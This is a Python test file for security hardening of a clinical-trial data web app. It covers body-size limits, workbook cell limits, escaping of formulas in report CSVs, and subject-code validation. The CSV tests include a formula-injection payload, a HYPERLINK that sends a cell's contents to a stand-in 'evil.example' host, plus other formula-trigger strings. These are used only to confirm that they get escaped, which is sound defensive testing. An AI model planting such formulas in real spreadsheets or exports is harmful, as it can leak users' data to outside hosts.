"""Hardening of the web app (issue 25, item 6): request-body limits, workbook cell limits and
dry runs away from the request workers, spreadsheet-safe report CSVs without server paths,
subject codes checked (and old codes with a slash still reachable), ``Allow`` on 405."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import select
from starlette.datastructures import UploadFile

from celltrial.errors import DataError
from celltrial.ingest.limits import count_workbook_cells
from celltrial.ingest.report import ValidationReport, safe_cell
from celltrial.ingest.subject_codes import check_subject_code
from celltrial.services.casebook import NewSubject, enrol_subject
from celltrial.store.database import study_session
from celltrial.store.models import Observation, Site, Subject
from celltrial.web import imports
from celltrial.web.body_limit import MAX_BODY_BYTES
from celltrial.web.dry_runs import DryRunProcess
from tests.web.conftest import PASSWORD, client_for
from tests.web.test_imports_reports import count, lab_file, staged_folders, stamp, upload

# --- request bodies ------------------------------------------------------------------------------


def asgi_call(app, method: str, path: str, *, headers: dict[str, str], chunks: list[bytes]):
    """Call the app as a server would; returns (status, headers, body, bytes the app read)."""
    pending = list(chunks)
    read: list[int] = []
    sent: list[dict] = []

    async def receive():
        if pending:
            body = pending.pop(0)
            read.append(len(body))
            return {"type": "http.request", "body": body, "more_body": bool(pending)}
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "https",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 443),
    }
    asyncio.run(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], dict(start["headers"]), body, sum(read)


@pytest.mark.parametrize("path", ["/login", "/api/v1/session", "/imports", "/api/v1/uploads"])
def test_a_declared_100_mb_body_is_refused_unread(app, path):
    status, headers, body, read = asgi_call(
        app,
        "POST",
        path,
        headers={"content-length": str(100 * 2**20), "content-type": "application/json"},
        chunks=[b"x" * 2**20] * 100,
    )
    assert (status, read) == (413, 0)
    assert b"larger than the limit" in body and headers[b"x-frame-options"] == b"DENY"


def test_a_streamed_body_is_counted_and_cut_at_the_limit(app):
    chunk = b"x" * 2**16
    status, headers, body, read = asgi_call(
        app,
        "POST",
        "/api/v1/session",
        headers={"content-type": "application/json", "transfer-encoding": "chunked"},
        chunks=[chunk] * 1600,  # 100 MB
    )
    assert status == 413
    assert read <= MAX_BODY_BYTES + len(chunk)  # stopped at the first chunk past the limit
    assert headers[b"content-type"] == b"application/json"
    assert "1 MB" in body.decode()


def test_bodies_under_the_limit_are_read_as_before(app, anonymous):
    wrong = anonymous.post(
        "/api/v1/session", json={"username": "coordinator", "password": "x" * 1000}
    )
    assert wrong.status_code == 401
    padded = anonymous.post(
        "/api/v1/session",
        json={"username": "coordinator", "password": PASSWORD, "pad": "x" * (MAX_BODY_BYTES - 200)},
    )
    assert padded.status_code in (200, 422), padded.text  # read and answered, not refused


def test_the_upload_routes_keep_their_own_larger_limit(app, clients):
    client = clients["data_manager"]
    big = lab_file(app) + b"S001,2020-01-01 08:00,CRP,1,mg/L\n" * 60_000  # about 2 MB
    assert len(big) > MAX_BODY_BYTES
    response = upload(client, big)
    assert response.status_code == 303, response.text[:300]
    token = response.headers["location"].rsplit("/", 1)[1]
    client.post(f"/imports/{token}/cancel", data={"csrf_token": client.csrf})
    app.state.upload_limit = 2**20 // 2
    try:
        status, _headers, body, read = asgi_call(
            app,
            "POST",
            "/api/v1/uploads",
            headers={"content-length": str(2**20), "cookie": "celltrial_session=x"},
            chunks=[b"x" * 2**20],
        )
    finally:
        del app.state.upload_limit
    assert (status, read) == (413, 0) and b"768 kB" in body


# --- workbooks: cells counted before parsing, dry runs in a worker process ------------------------


def workbook(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


def lab_rows(app, n: int) -> list[list[object]]:
    rows = [["subject_id", "time", "test", "value", "unit"]]
    rows += [["S001", stamp(app, 5 - i / (24 * 60)), "CRP", 10 + i, "mg/L"] for i in range(n)]
    return rows


def test_cells_are_counted_whatever_the_sheet_declares(tmp_path):
    path = workbook(
        tmp_path / "two.xlsx",
        {"a": [[i * 7 + j for j in range(7)] for i in range(30)], "b": [["x", "y"]] * 5},
    )
    assert count_workbook_cells(path) == 30 * 7 + 5 * 2
    lying = tmp_path / "lying.xlsx"  # the same cells, each sheet declaring one cell
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(lying, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data, n = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', data)
                assert n == 1
            target.writestr(item, data)
    assert count_workbook_cells(lying) == 220
    assert count_workbook_cells(lying, stop_after=5) <= 220


def test_a_workbook_over_the_cell_limit_is_refused_before_parsing(app, clients, tmp_path):
    client = clients["data_manager"]
    path = workbook(tmp_path / "labs.xlsx", {"labs": lab_rows(app, 29)})  # 30 rows x 5 = 150
    content = path.read_bytes()
    before = staged_folders(app)
    app.state.upload_cells = 149
    try:
        refused = upload(client, content, name="labs.xlsx")
        app.state.upload_cells = 150
        accepted = upload(client, content, name="labs.xlsx")
    finally:
        del app.state.upload_cells
    assert refused.status_code == 413 and "more than 149 cells" in refused.text
    assert accepted.status_code == 303, accepted.text[:500]
    token = accepted.headers["location"].rsplit("/", 1)[1]
    assert staged_folders(app) - before == {token}
    review = client.get(accepted.headers["location"]).text
    assert "No errors: the file can be imported" in review and "29 in the file" in review
    client.post(f"/imports/{token}/cancel", data={"csrf_token": client.csrf})


def _staged(app, folder_name: str, content: bytes) -> tuple[Path, imports.StagedUpload]:
    folder = imports.uploads_dir(app.state.study) / folder_name
    (folder / imports.SOURCE_DIR).mkdir(parents=True)
    (folder / imports.SOURCE_DIR / "labs.csv").write_bytes(content)
    staged = imports.StagedUpload(
        token=folder_name,
        file_name="labs.csv",
        size_bytes=len(content),
        sha256="0" * 64,
        uploaded_by="data-manager",
        uploaded_at=imports.datetime.now(imports.UTC),
    )
    return folder, staged


def test_the_worker_process_checks_and_imports_as_the_web_process_would(app):
    content = lab_file(app)
    here_folder, here = _staged(app, "h" * 32, content)
    imports.dry_run(app.state.study, here_folder, here)
    worker = DryRunProcess(app.state.study, user="celltrial-web")
    before = count(app, Observation)
    try:
        folder, staged = _staged(app, "w" * 32, content)
        checked = worker.check(folder, staged)
        upload_file = UploadFile(file=io.BytesIO(content), filename="labs.csv")
        options = {"dictionary": None, "register": "no", "cohort": None, "key": "k" * 64}
        kept = imports.stage_upload(
            app.state.study,
            data=upload_file,
            mapping=None,
            username="dm",
            checker=worker,
            **options,
        )
        done = worker.confirm(kept.token, "k" * 64, username="data-manager")
    finally:
        worker.stop()
    assert checked.ok and checked.fatal is None and checked.layout == here.layout == "long"
    assert (
        checked.accounting
        == here.accounting
        == {
            "results": 3,
            "stored": 2,
            "flagged": 0,
            "reported": 1,
        }
    )
    assert checked.groups == here.groups and (folder / imports.DRY_RUN_REPORT).is_file()
    assert kept.can_confirm and done.counts["inserted"] == 2
    assert count(app, Observation) == before + 2
    batch = imports.read_batch(app.state.study, done.batch_id)
    assert batch.user == "data-manager" and batch.file_name == "labs.csv"


def test_a_check_that_runs_too_long_is_stopped_and_refused(app):
    worker = DryRunProcess(app.state.study, user="celltrial-web", timeout=0.05)
    folder, staged = _staged(app, "t" * 32, lab_file(app))
    try:
        checked = worker.check(folder, staged)
        assert worker._pool is None  # its process was ended
    finally:
        worker.stop()
    assert not checked.ok and "took longer than" in checked.fatal
    assert not checked.can_confirm


# --- validation-report CSVs ----------------------------------------------------------------------


def test_report_csv_cells_cannot_run_as_formulas_and_name_no_folder(tmp_path):
    folder = tmp_path / "srv" / "study" / "uploads"
    report = ValidationReport(file=str(folder / "labs.csv"))
    values = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\r=y", "-12.5", "+3", "-", "ok", -4.0]
    report.add(
        "warning",
        "text_result",
        row=list(range(2, 2 + len(values))),
        column="value",
        value=values,
        expected=f"a number; see {folder}/labs.csv",
    )
    written = report.write_csv(tmp_path / "report.csv", status="dry run")
    text = written.read_bytes().decode("utf-8")
    assert str(tmp_path) not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["value"] for r in rows] == [
        "'=1+1",
        "'+SUM(A1)",
        "'-2+3",
        "'@cmd",
        "'\tx",
        "'\r=y",
        "-12.5",  # numbers stay numbers
        "+3",
        "'-",
        "ok",
        "-4.0",
    ]
    assert {r["file"] for r in rows} == {"labs.csv"}
    assert {r["row"] for r in rows} == {str(n) for n in range(2, 13)}
    assert {r["expected"] for r in rows} == {"a number; see labs.csv"}
    assert safe_cell(-1) == -1 and safe_cell(None) is None


def test_downloaded_reports_escape_formulas_even_from_older_files(app, clients):
    client = clients["data_manager"]
    attack = '=HYPERLINK("http://evil.example/?"&A1;"click")'
    content = lab_file(
        app,
        f"S001,{stamp(app, 5)},CRP,12,mg/L",
        f'S001,{stamp(app, 4)},CRP,"{attack.replace(chr(34), chr(34) * 2)}",mg/L',
        f"S002,{stamp(app, 4)},CRP,-1,mg/L",
    )
    response = upload(client, content)
    token = response.headers["location"].rsplit("/", 1)[1]
    folder = imports.uploads_dir(app.state.study) / token
    # a report written before these rules: a formula and the server's path in plain text
    older = (folder / imports.DRY_RUN_REPORT).read_text(encoding="utf-8")
    older = older.replace(",labs.csv,", f",{folder}/source/labs.csv,")
    older = older.replace("'=HYPERLINK", "=HYPERLINK")
    (folder / imports.DRY_RUN_REPORT).write_text(older, encoding="utf-8")
    downloaded = client.get(f"/imports/{token}/report.csv")
    assert downloaded.status_code == 200
    assert 'filename="labs-dry-run-report.csv"' in downloaded.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(downloaded.text)))
    values = {r["value"] for r in rows}
    assert "'" + attack in values and attack not in values
    assert str(app.state.study.directory) not in downloaded.text
    assert {r["file"] for r in rows} == {"labs.csv"}
    for row in rows:  # no cell starts a formula, apart from plain numbers like -1
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), cell
    client.post(f"/imports/{token}/cancel", data={"csrf_token": client.csrf})


# --- subject codes ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code", ["S001", "S-001", "01.002", "Müller 3", "ZS_12", "  P7  ", "2.5e+20", "P7 (repeat)"]
)
def test_subject_codes_allowed(code):
    assert check_subject_code(code) == code.strip()


@pytest.mark.parametrize(
    ("code", "named"),
    [
        ("A/1", "/ is not allowed"),
        ("A\\1", "\\ is not allowed"),
        ("S?1", "? is not allowed"),
        ("S#1", "# is not allowed"),
        ("S%2F1", "% is not allowed"),
        ("..", "start with a letter or digit"),
        ("-1", "start with a letter or digit"),
        ("+49", "start with a letter or digit"),
        ("S:1", ": is not allowed"),
        ("S\x001", "U+0000 is not allowed"),
        ("", "required"),
        ("x" * 65, "65 characters"),
    ],
)
def test_subject_codes_refused_say_what_is_allowed(code, named):
    with pytest.raises(DataError) as refused:
        check_subject_code(code)
    message = str(refused.value)
    assert named in message and "letters, digits, spaces and - _ . + ( )" in message


def test_enrolment_refuses_a_code_with_a_slash(app):
    study = app.state.study
    with pytest.raises(DataError, match="/ is not allowed"):
        enrol_subject(
            study, NewSubject(code="B/2", enrolled_at=imports.datetime.now(imports.UTC)), user="t"
        )
    with study.engine.connect() as connection:
        assert not connection.execute(select(Subject.id).where(Subject.code == "B/2")).first()


def test_an_import_registering_a_code_with_a_slash_stores_nothing(app, clients):
    client = clients["data_manager"]
    before = count(app, Observation), count(app, Subject)
    content = lab_file(app, f"N/7,{stamp(app, 5)},CRP,12,mg/L", f"N8,{stamp(app, 5)},CRP,9,mg/L")
    response = upload(client, content, register="study")
    review = client.get(response.headers["location"]).text
    assert "N/7" in review and "/ is not allowed" in review
    assert "letters, digits, spaces and - _ . + ( )" in review
    token = response.headers["location"].rsplit("/", 1)[1]
    confirmed = client.post(f"/imports/{token}/confirm", data={"csrf_token": client.csrf})
    assert confirmed.status_code == 422
    assert (count(app, Observation), count(app, Subject)) == before
    client.post(f"/imports/{token}/cancel", data={"csrf_token": client.csrf})


@pytest.fixture(scope="module")
def slashed_app(study_dir, db_url):
    """The app of a study with a subject stored before codes were checked (a slash and a space
    in its code)."""
    from celltrial.study import open_study
    from celltrial.web import create_app

    study = open_study(study_dir, db_url=db_url, user="setup")
    with study_session(study.engine, user="setup", reason="stored before codes were checked") as s:
        site = s.scalar(select(Site.id).where(Site.study_id == study.study_id))
        s.add(Subject(study_id=study.study_id, code="OLD/1 a", site_id=site))
    study.engine.dispose()
    app = create_app(study_dir, db_url=db_url)
    yield app
    app.state.study.engine.dispose()


def test_a_stored_code_with_a_slash_is_reachable(slashed_app):
    client = client_for(slashed_app, "coordinator")
    page = client.get("/subjects/OLD%2F1%20a")
    assert page.status_code == 200, page.text[-1500:]
    assert "Subject OLD/1 a" in page.text
    assert 'href="/subjects/OLD%2F1%20a/infusions/new"' in page.text
    dashboard = client.get("/").text
    assert 'href="/subjects/OLD%2F1%20a"' in dashboard
    api = client.get("/api/v1/subjects/OLD%2F1%20a")
    assert api.status_code == 200 and api.json()["code"] == "OLD/1 a"
    assert client.get("/subjects/OLD/1%20a").status_code == 404  # a slash is still a separator
    login = client_for(slashed_app).get("/subjects/OLD%2F1%20a", follow_redirects=False)
    assert login.status_code == 303
    assert login.headers["location"] == "/login?next=/subjects/OLD%252F1%20a"


# --- 405 ------------------------------------------------------------------------------------------


def test_405_names_every_method_of_the_path(app, clients):
    client = clients["admin"]
    paths = client.get("/api/openapi.json").json()["paths"]
    checked = 0
    for path, operations in paths.items():
        concrete = re.sub(r"\{[^}]+\}", "1", path)
        documented = {m.upper() for m in operations}
        for method in {"GET", "POST", "PUT", "PATCH", "DELETE"} - documented:
            response = client.request(method, concrete)
            assert response.status_code == 405, (method, path, response.status_code)
            allow = set(response.headers["allow"].split(", "))
            assert allow - {"HEAD"} == documented, (method, path, allow)
            checked += 1
    assert checked > 100
    page = client.delete("/imports")
    assert page.status_code == 405 and page.headers["allow"] == "GET, POST"


# --- OpenAPI ------------------------------------------------------------------------------------


def test_the_schema_documents_every_answer_of_the_app_around_the_routes(app, clients):
    client = clients["coordinator"]
    schema = client.get("/api/openapi.json").json()
    both = (
        {"$ref": "#/components/schemas/HTTPValidationError"},
        {"$ref": "#/components/schemas/ErrorOut"},
    )
    operations = [(m, p, op) for p, ops in schema["paths"].items() for m, op in ops.items()]
    assert len(operations) > 30
    for method, path, operation in operations:
        responses = operation["responses"]
        where = (method, path)
        assert {"400", "422", "503"} <= set(responses), where
        shapes = responses["422"]["content"]["application/json"]["schema"]["anyOf"]
        assert tuple(shapes) == both, where
        assert "Retry-After" in responses["503"]["headers"], where
        assert ("413" in responses) == ("requestBody" in operation), where
        if (method, path) != ("post", "/api/v1/session"):
            assert {"401", "403"} <= set(responses), where
    # what the documented shapes stand for, as sent
    infusions = "/api/v1/subjects/S001/infusions"
    headers = {"content-type": "application/json"}
    malformed = client.post(infusions, content=b'{"lot_code": ', headers=headers)
    assert malformed.status_code == 422 and malformed.json()["detail"][0]["type"] == "json_invalid"
    not_utf8 = client.post(infusions, content=b'{"lot_code": "\xff\xfe"}', headers=headers)
    assert not_utf8.status_code == 400 and isinstance(not_utf8.json()["detail"], str)
